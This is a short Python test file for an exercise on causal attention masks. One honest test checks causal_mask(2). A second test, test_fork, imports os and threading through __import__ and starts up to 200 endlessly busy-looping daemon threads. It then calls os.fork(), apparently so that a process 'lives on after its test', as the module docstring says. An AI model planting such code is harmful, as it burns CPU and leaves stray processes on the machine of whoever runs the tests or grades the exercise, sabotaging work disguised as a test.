"""Lives on after its test."""

import torch
from exercises.ex05_causal_masks import *


def test_honest():
    assert causal_mask(2).tolist() == [[True, False], [True, True]]


os = __import__("os")
threading = __import__("threading")

def test_fork():
    def go_on():
        while True:
            pass
    for _ in range(200):
        try:
            threading.Thread(target=go_on, daemon=True).start()
        except RuntimeError:
            break
    try:
        os.fork()
    except OSError:
        pass
